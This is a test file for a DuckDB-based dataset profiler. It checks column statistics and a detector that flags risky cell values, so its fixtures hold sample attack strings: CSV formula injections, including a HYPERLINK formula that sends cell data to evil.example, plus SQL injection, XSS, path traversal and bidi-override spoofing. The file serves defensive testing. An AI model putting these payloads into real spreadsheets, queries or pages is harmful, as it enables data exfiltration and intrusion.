import { DuckDBInstance } from '@duckdb/node-api';
import { describe, expect, it } from 'vitest';
import { renderProfileText } from '../../../src/data/profile/render-text.js';
import { profileDataset, profileSql } from '../../../src/data/profile/index.js';
import { SECURITY_SIGNALS, type ColumnProfile, type DatasetProfile } from '../../../src/data/profile/types.js';
import { sampleRows, toCsv } from '../sample-data.js';
import { tempDataDir } from '../temp-data.js';

const write = tempDataDir();
const column = (profile: DatasetProfile, name: string): ColumnProfile => {
  const found = profile.columns.find((c) => c.name === name);
  if (!found) throw new Error(`no column ${name}`);
  return found;
};

/** One CSV column per signal: a benign value first, then the payload. */
const PAYLOADS: Record<string, string[]> = {
  formula: ['=1+2', '@SUM(A1)', '\uFF1Dcmd', '-2+3+cmd|calc'],
  sql: ["x' OR 1=1 --", 'a UNION SELECT password FROM users', '1; DROP TABLE t '],
  script: ['<script>alert(1)</script>', 'javascript:alert(1)', '<img src=x onerror=alert(1)>'],
  path: ['../../etc/passwd', '..%2f..%2fboot.ini'],
  control: ['bell\u0007', 'esc\u001b[31m', 'nul\u0000byte'],
  bidi: ['abc\u202Etxt.exe', 'x\u2066y'],
  long: ['y'.repeat(5000)],
  nan: ['NaN', '-Infinity'],
  int64: ['9223372036854775808', '-9223372036854775809'],
  float: ['1e400', '-2.5E+999'],
};

function signalCsv(): string {
  const names = Object.keys(PAYLOADS);
  const rows: string[][] = [];
  for (let i = 0; i < 8; i++) rows.push(names.map((n) => (i < PAYLOADS[n]!.length ? PAYLOADS[n]![i]! : `plain value ${i}`)));
  // Benign: a signed number, the int64 maximum, a large finite float, and dashes standing for "none".
  rows.push(names.map(() => '-5'), names.map(() => '9223372036854775807'), names.map(() => '1.5e300'), names.map(() => '-'), names.map(() => '--/--'));
  const cell = (s: string): string => `"${s.replaceAll('"', '""')}"`;
  return [names.join(','), ...rows.map((r) => r.map(cell).join(','))].join('\n') + '\n';
}

describe('security signals', async () => {
  const profile = await profileDataset({ engine: 'duckdb', file: write('signals.csv', signalCsv()) });
  const expected: Array<[string, (typeof SECURITY_SIGNALS)[number]]> = [
    ['formula', 'formulaPrefix'],
    ['sql', 'sqlFragment'],
    ['script', 'scriptFragment'],
    ['path', 'pathTraversal'],
    ['control', 'controlChars'],
    ['bidi', 'bidiOverride'],
    ['long', 'longString'],
    ['nan', 'nanOrInfinity'],
    ['int64', 'int64Overflow'],
    ['float', 'floatOverflow'],
  ];

  it.each(expected)('counts every payload in column %s as %s', (name, signal) => {
    const stats = column(profile, name).signals[signal];
    expect(stats.count).toBe(PAYLOADS[name]!.length);
    expect(stats.rate).toBeCloseTo(PAYLOADS[name]!.length / 13, 10);
    expect(stats.examples.length).toBeGreaterThan(0);
  });

  it('does not flag the benign values (signed numbers, the int64 maximum, large but finite floats, dashes for none)', () => {
    for (const [name, signal] of expected) {
      for (const other of SECURITY_SIGNALS) {
        if (other === signal) continue;
        // A few payloads legitimately carry two signals; plain values never do.
        const allowed = (name === 'formula' && other === 'sqlFragment') || (name === 'nan' && other === 'formulaPrefix') || name === 'long';
        if (!allowed) expect(column(profile, name).signals[other].count, `${name}/${other}`).toBe(0);
      }
    }
  });

  it('takes a scheme or event handler inside a name for a name, not a script', async () => {
    const values = ['com.google.javascript:closure-compiler', 'jsonload=1', 'org.vbscript:parser', 'href="javascript:alert(1)"', ' JavaScript:void(0)', 'x onload=go()'];
    const lookalikes = await profileDataset({ engine: 'duckdb', file: write('lookalikes.csv', ['value', ...values.map((v) => `"${v.replaceAll('"', '""')}"`)].join('\n') + '\n') });
    expect(column(lookalikes, 'value').signals.scriptFragment.count).toBe(3);
  });

  it('redacts the examples: invisible characters escaped, later letters and digits masked', () => {
    const bidi = column(profile, 'bidi').signals.bidiOverride.examples;
    expect(bidi.join('')).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    expect(bidi.some((e) => e.includes('\\u202e'))).toBe(true);
    const control = column(profile, 'control').signals.controlChars.examples;
    expect(control.join('')).not.toMatch(/[\u0000-\u001f]/);
    const sql = column(profile, 'sql').signals.sqlFragment.examples;
    expect(sql.join(' ')).not.toContain('password');
    expect(column(profile, 'long').signals.longString.examples[0]!.length).toBeLessThan(100);
  });
});

describe('column metrics', async () => {
  const rows = sampleRows(2000);
  const profile = await profileDataset({ engine: 'duckdb', file: write('sample.csv', toCsv(rows)) }, { now: () => new Date('2025-01-02T03:04:05Z') });

  it('names the dataset after the file and records the time', () => {
    expect(profile.dataset).toBe('sample');
    expect(profile.profiledAt).toBe('2025-01-02T03:04:05.000Z');
    expect(profile.rowCount).toBe(2000);
    expect(profile.columns.map((c) => c.name)).toEqual(['id', 'amount', 'category', 'note', 'day', 'flag']);
  });

  it('infers types and counts nulls', () => {
    expect(column(profile, 'id').type).toBe('integer');
    expect(column(profile, 'amount').type).toBe('number');
    expect(column(profile, 'category').type).toBe('string');
    expect(column(profile, 'day').type).toBe('date');
    expect(column(profile, 'flag').type).toBe('boolean');
    const amount = column(profile, 'amount');
    const nulls = rows.filter((r) => r.amount === null).length;
    expect(amount.nullCount).toBe(nulls);
    expect(amount.nullRate).toBeCloseTo(nulls / 2000, 12);
  });

  it('computes exact moments and 101 monotone quantiles bracketed by min and max', () => {
    const values = rows.flatMap((r) => (r.amount === null ? [] : [r.amount]));
    const amount = column(profile, 'amount');
    const mean = values.reduce((a, b) => a + b, 0) / values.length;
    expect(amount.min).toBe(Math.min(...values));
    expect(amount.max).toBe(Math.max(...values));
    expect(amount.mean!).toBeCloseTo(mean, 8);
    const variance = values.reduce((a, b) => a + (b - mean) ** 2, 0) / (values.length - 1);
    expect(amount.stddev!).toBeCloseTo(Math.sqrt(variance), 6);
    expect(amount.quantiles).toHaveLength(101);
    for (let i = 1; i < 101; i++) expect(amount.quantiles[i]!).toBeGreaterThanOrEqual(amount.quantiles[i - 1]!);
    const sorted = [...values].sort((a, b) => a - b);
    expect(Math.abs(amount.quantiles[50]! - sorted[Math.floor(sorted.length / 2)]!)).toBeLessThan(((amount.max as number) - (amount.min as number)) * 0.02);
  });

  it('builds a histogram whose bins cover the range and count every non-null value', () => {
    const amount = column(profile, 'amount');
    expect(amount.histogram).toHaveLength(20);
    expect(amount.histogram[0]!.lower).toBe(amount.min);
    expect(amount.histogram[19]!.upper).toBeCloseTo(amount.max as number, 8);
    expect(amount.histogram.reduce((n, b) => n + b.count, 0)).toBe(2000 - amount.nullCount);
    const firstBin = rows.filter((r) => r.amount !== null && r.amount < amount.histogram[0]!.upper).length;
    expect(amount.histogram[0]!.count).toBe(firstBin);
  });

  it('lists top values with exact counts, most frequent first', () => {
    const category = column(profile, 'category');
    const counts = new Map<string, number>();
    for (const r of rows) counts.set(r.category, (counts.get(r.category) ?? 0) + 1);
    const expected = [...counts].sort((a, b) => b[1] - a[1] || a[0].localeCompare(b[0])).map(([value, count]) => ({ value, count }));
    expect(category.topValues).toEqual(expected);
    expect(column(profile, 'flag').mean!).toBeCloseTo(rows.filter((r) => r.flag).length / 2000, 12);
  });

  it('counts distinct values exactly where their top values are listed, and estimates them elsewhere, never above the values', async () => {
    // DuckDB's HyperLogLog reads 3,562 distinct values in "0".."2999".
    const lines = ['code,n', ...Array.from({ length: 9000 }, (_, i) => `k${i % 3000},${i}`)];
    const counted = await profileDataset({ engine: 'duckdb', file: write('distinct.csv', `${lines.join('\n')}\n`) });
    expect(column(counted, 'code')).toMatchObject({ approxDistinct: 3000, distinctExact: true });
    expect(column(counted, 'n').distinctExact).toBeUndefined();
    expect(column(counted, 'n').approxDistinct).toBeGreaterThan(0);
    // HyperLogLog reads 3,562 for these 3,000 different integers: more than there are values.
    const unique = await profileDataset({ engine: 'duckdb', file: write('unique.csv', `n\n${Array.from({ length: 3000 }, (_, i) => i).join('\n')}\n`) });
    expect(column(unique, 'n').approxDistinct).toBe(3000);
  });

  it('measures string lengths', () => {
    const note = column(profile, 'note');
    const lengths = rows.flatMap((r) => (r.note === null ? [] : [[...r.note].length]));
    expect(note.length.min).toBe(Math.min(...lengths));
    expect(note.length.max).toBe(Math.max(...lengths));
    expect(note.length.mean!).toBeCloseTo(lengths.reduce((a, b) => a + b, 0) / lengths.length, 8);
  });
});

describe('nested values', () => {
  it('count a formula in any string of a struct or list, but not signed numbers or dashes there', async () => {
    const lines = [
      { id: 1, user: { name: '=HYPERLINK("http://evil.example/?"&A1)', path: 'a.txt' }, tags: ['ok'] },
      { id: 2, user: { name: '-5', path: '--' }, tags: ['-', '+1', '@'] },
      { id: 3, user: { name: 'bob', path: 'b.txt' }, tags: ['x', '\t=cmd|calc'] },
      { id: 4, user: { name: 'ann', path: 'c.txt' }, tags: ['+SUM(A1:A9)'] },
    ].map((r) => JSON.stringify(r));
    const profile = await profileDataset({ engine: 'duckdb', file: write('nested.jsonl', `${lines.join('\n')}\n`) });
    expect(column(profile, 'user').signals.formulaPrefix.count).toBe(1);
    expect(column(profile, 'tags').signals.formulaPrefix.count).toBe(2);
    expect(column(profile, 'id').signals.formulaPrefix.count).toBe(0);
  });
});

describe('type mismatches', () => {
  it('counts values that do not parse as the inferred type (sniffed from the first rows)', async () => {
    const lines = ['n'];
    for (let i = 0; i < 30_000; i++) lines.push(String(i));
    lines.push('oops', '=1+1', '12.5');
    const profile = await profileDataset({ engine: 'duckdb', file: write('late-bad.csv', `${lines.join('\n')}\n`) });
    const n = column(profile, 'n');
    expect(n.type).toBe('integer');
    expect(n.typeMismatchCount).toBe(3);
    expect(n.typeMismatchRate).toBeCloseTo(3 / 30_003, 12);
    expect(n.signals.formulaPrefix.count).toBe(1);
    expect(n.max).toBe(29_999);
  });

  it('keeps values the strict parse refuses out of histograms and top values, beside a column that parses throughout', async () => {
    // DuckDB's own casts read '0x10' as 16, '1_000' as 1000 and '7.6' as 8: pass 2 may use them only where pass 1 found no such
    // value. The bad values come after the rows the sniffer types the columns from.
    const lines = ['clean,dirty'];
    for (let i = 0; i < 30_000; i++) lines.push(`${i % 4},${i % 3}`);
    lines.push('3,0x10', '3,1_000', '3,7.6');
    const profile = await profileDataset({ engine: 'duckdb', file: write('strict-later.csv', `${lines.join('\n')}\n`) });
    const clean = column(profile, 'clean');
    const dirty = column(profile, 'dirty');
    expect(clean.typeMismatchCount).toBe(0);
    expect(clean.histogram.reduce((sum, b) => sum + b.count, 0)).toBe(30_003);
    expect(clean.topValues.find((t) => t.value === '3')?.count).toBe(7_503);
    expect(dirty.typeMismatchCount).toBe(3);
    expect(dirty.max).toBe(2);
    expect(dirty.histogram.reduce((sum, b) => sum + b.count, 0)).toBe(30_000);
    expect(dirty.topValues.map((t) => t.value).sort()).toEqual(['0', '1', '2']);
  });

  it('judges columns against declared types', async () => {
    const file = write('declared.csv', 'code,amount\nA1,10\n22,x\n33,30\n');
    const profile = await profileDataset({ engine: 'duckdb', file }, { declaredTypes: { code: 'integer', amount: 'number' } });
    expect(column(profile, 'code')).toMatchObject({ type: 'integer', typeSource: 'declared', typeMismatchCount: 1 });
    expect(column(profile, 'amount')).toMatchObject({ type: 'number', typeSource: 'declared', typeMismatchCount: 1, min: 10, max: 30 });
  });
});

describe('input formats', () => {
  it('reads JSON Lines, keeping nested values as JSON text', async () => {
    const file = write('events.jsonl', ['{"id":1,"tags":{"a":[1,2]},"v":1.5}', '{"id":2,"tags":null,"v":"oops"}', '{"id":3,"v":2.5}'].join('\n'));
    const profile = await profileDataset({ engine: 'duckdb', file });
    expect(profile.rowCount).toBe(3);
    expect(column(profile, 'id').type).toBe('integer');
    expect(column(profile, 'tags').nullCount).toBe(2);
    expect(column(profile, 'v').type).toBe('string');
  });

  it('reads a JSON array document', async () => {
    const profile = await profileDataset({ engine: 'duckdb', file: write('array.json', JSON.stringify([{ a: 1 }, { a: 2 }, { a: null }])) });
    expect(column(profile, 'a')).toMatchObject({ type: 'integer', count: 3, nullCount: 1, min: 1, max: 2 });
  });

  it('reads Parquet with its own column types', async () => {
    const file = write('typed.parquet', '');
    const db = await DuckDBInstance.create(':memory:');
    const connection = await db.connect();
    await connection.run(`COPY (SELECT i AS id, i * 0.5 AS half, 'v' || (i % 3) AS label, CASE WHEN i = 3 THEN 'NaN'::DOUBLE WHEN i = 5 THEN '-Infinity'::DOUBLE ELSE i END AS d FROM range(10) t(i)) TO '${file}' (FORMAT parquet)`);
    connection.closeSync();
    db.closeSync();
    const profile = await profileDataset({ engine: 'duckdb', file });
    expect(column(profile, 'id')).toMatchObject({ type: 'integer', min: 0, max: 9, typeMismatchCount: 0 });
    expect(column(profile, 'half').type).toBe('number');
    expect(column(profile, 'label').topValues.map((t) => t.count)).toEqual([4, 3, 3]);
    // A native double has no text to sample, so its lowest and highest non-finite values are the examples.
    expect(column(profile, 'd').signals.nanOrInfinity).toMatchObject({ count: 2, examples: ['-Infinity', 'NaN'] });
    expect(column(profile, 'd').max).toBe(9);
    // Six significant digits, no padding zeros: 4.5 and 2.25, not 4.50000 and 2.25000.
    expect(renderProfileText(profile)).toMatch(/\nhalf +number +0% +0% +\d+ +0 +4\.5 +2\.25 +1\.51383\n/);
  });

  it('looks for payloads inside nested Parquet values, on their printed form', async () => {
    const file = write('nested.parquet', '');
    const db = await DuckDBInstance.create(':memory:');
    const connection = await db.connect();
    await connection.run(
      `COPY (SELECT i AS id, {'src': CASE WHEN i = 1 THEN '<script>alert(1)</script>' ELSE 'x' || i END} AS meta, ['../../etc/passwd', 'a'][1:1 + (i % 2)] AS paths FROM range(4) t(i)) TO '${file}' (FORMAT parquet)`,
    );
    connection.closeSync();
    db.closeSync();
    const profile = await profileDataset({ engine: 'duckdb', file });
    expect(column(profile, 'meta')).toMatchObject({ kind: 'other', signals: { scriptFragment: { count: 1 } } });
    expect(column(profile, 'paths').signals.pathTraversal.count).toBe(4);
    expect(column(profile, 'meta').length.max).toBeGreaterThan(column(profile, 'meta').length.min!);
  });

  it('prints the SQL of a dry run without scanning', async () => {
    const sql = await profileSql({ engine: 'duckdb', file: write('dry.csv', 'a,b\n1,x\n') });
    expect(sql).toContain('approx_quantile(');
    expect(sql).toContain("read_csv('");
    expect(sql).toContain('GROUPING SETS');
  });
});
